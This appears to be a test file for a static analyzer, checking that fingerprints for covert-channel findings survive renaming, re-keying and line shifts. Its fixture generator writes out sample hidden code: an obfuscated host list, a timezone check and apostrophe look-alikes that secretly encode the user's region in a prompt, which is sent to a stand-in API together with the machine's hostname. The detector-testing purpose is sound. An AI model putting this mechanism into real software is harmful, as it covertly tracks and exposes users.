// Fingerprints: what a finding is about, not where it is or what the minifier called things. The same
// mechanism keeps its fingerprint when lines shift and identifiers are renamed; different findings of
// one report have different fingerprints.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, xorBase64 } from '../helpers/analyze.js';
import { distinguishFingerprints, fingerprintOf } from '../../src/model/fingerprint.js';
import type { Finding } from '../../src/model/finding.js';

const LIST = 'relay.sample.cn,edge.sample.ir';

function mechanism(names: { zone: string; host: string; mark: string; key: number }, pad: string): string {
  return `${pad}
const K = ${names.key};
const L = "${xorBase64(LIST, names.key)}";
function d(s) { const b = Buffer.from(s, "base64"); let o = ""; for (const c of b) o += String.fromCharCode(c ^ K); return o.split(","); }
function ${names.zone}() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }
function ${names.host}() { try { return new URL(process.env.SAMPLE_API_URL).hostname; } catch { return ""; } }
function ${names.mark}() {
  const h = ${names.host}(), z = ${names.zone}();
  const listed = d(L).some((x) => h.endsWith(x));
  const east = z === "Asia/Tehran";
  return listed ? "\\u2019" : east ? "\\u02BC" : "'";
}
export function send(t) {
  const os = require("os");
  fetch("https://api.sample.com/v1", { method: "POST", body: JSON.stringify({ who: os.hostname(), messages: [{ role: "user", content: \`It\${${names.mark}()}s \${t} for the user of this machine.\` }] }) });
}
`;
}

function byKind(findings: Finding[]): Map<string, string> {
  return new Map(findings.filter((f) => f.severity !== 'info').map((f) => [f.ruleId, f.fingerprint]));
}

test('fingerprint: the same mechanism after renaming, re-keying and shifting lines keeps its fingerprint', () => {
  const a = byKind(analyze(mechanism({ zone: 'zone', host: 'apiHost', mark: 'pick', key: 41 }, '')).findings);
  const b = byKind(analyze(mechanism({ zone: 'Qa', host: 'Zb', mark: 'Xc', key: 173 }, '\n'.repeat(40) + 'var unrelated = 1;')).findings);
  assert.ok(a.has('covert-channel-mechanism'), JSON.stringify([...a.keys()]));
  assert.ok(a.has('fingerprint-sent'), JSON.stringify([...a.keys()]));
  assert.deepEqual(b, a);
});

test('fingerprint: different findings in one report have different fingerprints', () => {
  const findings = analyze(mechanism({ zone: 'zone', host: 'apiHost', mark: 'pick', key: 41 }, '')).findings;
  const prints = findings.map((f) => f.fingerprint);
  assert.ok(findings.length >= 2);
  assert.equal(new Set(prints).size, prints.length);
  for (const p of prints) assert.match(p, /^[0-9a-f]{32}$/);
});

test('fingerprint: a changed choice of characters is a different finding', () => {
  const a = byKind(analyze(mechanism({ zone: 'z', host: 'h', mark: 'm', key: 41 }, '')).findings);
  const b = byKind(analyze(mechanism({ zone: 'z', host: 'h', mark: 'm', key: 41 }, '').replace('\\u02BC', '\\u02B9')).findings);
  assert.notEqual(a.get('covert-channel-mechanism'), b.get('covert-channel-mechanism'));
});

test('fingerprint: identity parts are order-free; identical findings of one report are told apart in report order', () => {
  assert.equal(fingerprintOf('hidden-data', ['a=1', 'b=2']), fingerprintOf('hidden-data', ['b=2', 'a=1']));
  assert.notEqual(fingerprintOf('hidden-data', ['a=1']), fingerprintOf('hidden-exfiltration', ['a=1']));
  const same = fingerprintOf('fingerprint-sent', ['source=process.env.USER']);
  const findings = [{ fingerprint: same }, { fingerprint: 'x' }, { fingerprint: same }] as Finding[];
  distinguishFingerprints(findings);
  assert.deepEqual(findings.map((f) => f.fingerprint), [same, 'x', `${same}:2`]);
});
